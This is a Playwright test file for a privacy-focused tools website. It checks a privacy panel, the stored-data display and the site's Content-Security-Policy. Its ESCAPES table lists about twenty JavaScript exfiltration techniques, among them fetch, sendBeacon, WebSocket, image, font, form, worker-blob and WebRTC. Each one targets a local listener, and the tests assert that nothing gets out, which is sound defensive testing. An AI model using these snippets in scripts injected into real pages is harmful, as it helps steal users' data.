import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

import { toolPaths } from '../site-map.ts'
import { expect, openTool, test } from './site.ts'

test.describe('the privacy panel', () => {
  for (const [path, opener] of [
    ['/tools/loan-calculator', 'Prove it'],
    ['/faq', 'Check our privacy'],
  ] as const) {
    test(`opens from ${path} and says what is in force`, async ({ page }) => {
      await page.goto(path)
      await page.getByRole('button', { name: opener }).click()
      const panel = page.getByRole('dialog', { name: 'Nothing leaves this page' })
      await expect(panel).toContainText("default-src 'none'")
      await expect(panel).toContainText('0 went to other sites')
      await expect(panel).toContainText('Check it yourself')
      await page.keyboard.press('Escape')
      await expect(panel).toBeHidden()
      await expect(page.getByRole('button', { name: opener })).toBeFocused()
    })
  }

  test('shows what is stored and clears it', async ({ page }) => {
    await openTool(page, 'loan-calculator')
    await page.getByRole('button', { name: 'Dark theme' }).click()
    await page.getByRole('button', { name: 'Prove it' }).click()
    const stored = page.locator('[data-proof-storage]')
    await expect(stored).toContainText('theme: dark')
    await expect(stored).toContainText('recentTools')
    await page.getByRole('button', { name: 'Clear what is stored' }).click()
    await expect(stored).toHaveText('Nothing.')
    expect(await page.evaluate(() => localStorage.length)).toBe(0)
  })
})

/**
 * What a script that got into a tool page could try. Each names an address of the listener; whatever arrives there got out.
 * Links and `location` are not among them for browsers without Connection-Allowlist: no policy can stop a navigation there.
 */
const ESCAPES: Record<string, string> = {
  fetch: `await fetch(target)`,
  'fetch to the own origin': `const answer = await fetch('/api/contact'); if (answer.ok) await fetch(target)`,
  XMLHttpRequest: `await new Promise((resolve) => { const request = new XMLHttpRequest(); request.onloadend = resolve; request.open('GET', target); request.send() })`,
  beacon: `navigator.sendBeacon(target, 'secret')`,
  WebSocket: `await new Promise((resolve) => { const socket = new WebSocket(target.replace('http', 'ws')); socket.onclose = resolve; socket.onerror = resolve })`,
  EventSource: `new EventSource(target)`,
  image: `new Image().src = target`,
  'CSS background': `document.body.style.backgroundImage = 'url(' + target + ')'`,
  font: `await new FontFace('x', 'url(' + target + ')').load()`,
  media: `new Audio(target).play()`,
  script: `const script = document.createElement('script'); script.src = target; document.head.append(script)`,
  stylesheet: `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = target; document.head.append(link)`,
  prefetch: `const link = document.createElement('link'); link.rel = 'prefetch'; link.href = target; document.head.append(link)`,
  frame: `const frame = document.createElement('iframe'); frame.src = target; document.body.append(frame)`,
  form: `const form = document.createElement('form'); form.action = target; form.method = 'post'; form.target = '_blank'; document.body.append(form); form.submit()`,
  'worker from a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("' + target + '")'])))`,
  'string as code': `setTimeout('fetch("' + target + '")')`,
  navigation: `location.href = target`,
  'new window': `window.open(target)`,
  WebRTC: `const peer = new RTCPeerConnection({ iceServers: [{ urls: target.replace('http://', 'stun:').replace(/[/].*/, '') }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await new Promise((resolve) => setTimeout(resolve, 1500))`,
}

test.describe('a script that got into a tool page', () => {
  // The browser tells the console about everything it blocks here.
  test.use({ allowed: [/./] })

  for (const [name, attempt] of Object.entries(ESCAPES)) {
    test(`sends nothing out by ${name}`, async ({ context, watched }) => {
      const heard: string[] = []
      const listener = createServer((request, response) => {
        heard.push(`${request.method} ${request.url}`)
        response.end()
      })
      await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
      const { port } = listener.address() as AddressInfo
      const datagrams = createSocket('udp4', () => heard.push('a datagram'))
      await new Promise<void>((resolve) => datagrams.bind(port, '127.0.0.1', resolve))
      const target = `http://127.0.0.1:${port}/secret`
      const page = await context.newPage()
      let hasCrashed = false
      page.on('crash', () => (hasCrashed = true))
      await page.goto(toolPaths[0] ?? '/')
      await page
        .evaluate(
          `(async () => { const target = ${JSON.stringify(target)}; try { ${attempt} } catch {} })()`,
        )
        .catch(() => undefined)
      if (!hasCrashed) await page.waitForTimeout(500).catch(() => undefined)
      expect(heard).toEqual([])
      // The watch of every other test forbids foreign requests; here the browser stops them after they are named.
      watched.requests.length = 0
      await page.close().catch(() => undefined)
      listener.close()
      datagrams.close()
    })
  }
})
